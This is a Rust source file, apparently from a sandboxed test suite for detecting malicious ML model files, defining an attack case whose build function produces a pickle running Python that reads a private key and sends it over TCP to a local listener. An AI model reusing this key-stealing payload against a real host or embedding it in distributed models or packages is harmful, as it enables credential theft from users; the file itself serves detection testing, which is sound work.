//! A private key is read and sent over a TCP connection.

use super::*;

/// A key is sent by TCP.
pub const ATTACK: Attack = Attack {
    id: "exfiltrate-tcp",
    title: "a private key sent by TCP",
    summary: "The pickle runs a few lines of Python that read a private key and send it to a \
              listener. This is what most malicious models and packages were made for.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::PRIVATE_KEYS,
        techniques::EXFILTRATION_OVER_UNENCRYPTED_NON_C2_PROTOCOL,
        techniques::EXFILTRATION_VIA_CYBER_MEANS,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 200],
    references: &[
        Reference {
            title: "JFrog: malicious models on Hugging Face with a silent backdoor",
            url: "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/",
        },
        Reference {
            title: "PyTorch: the compromised dependency torchtriton",
            url: "https://pytorch.org/blog/compromised-nightly-dependency/",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Received(KEY_MARK)],
        policy: &[
            Evidence { kind: EventKind::FileRead, text: KEY },
            Evidence { kind: EventKind::Connect, text: "127.0.0.1:47001" },
        ],
    },
    quick: true,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let key = payload::quoted(&scene.path(KEY));
    // Without the key the connection is tried all the same.
    let source = format!(
        r"
import socket
try:
    with open({key}) as opened:
        stolen = opened.read()
except OSError:
    stolen = 'unreadable\n'
connection = socket.socket()
connection.connect(('127.0.0.1', {TCP_PORT}))
connection.sendall(stolen.encode())
connection.close()
"
    );
    payload::program(ATTACK.id, target, &source)
}
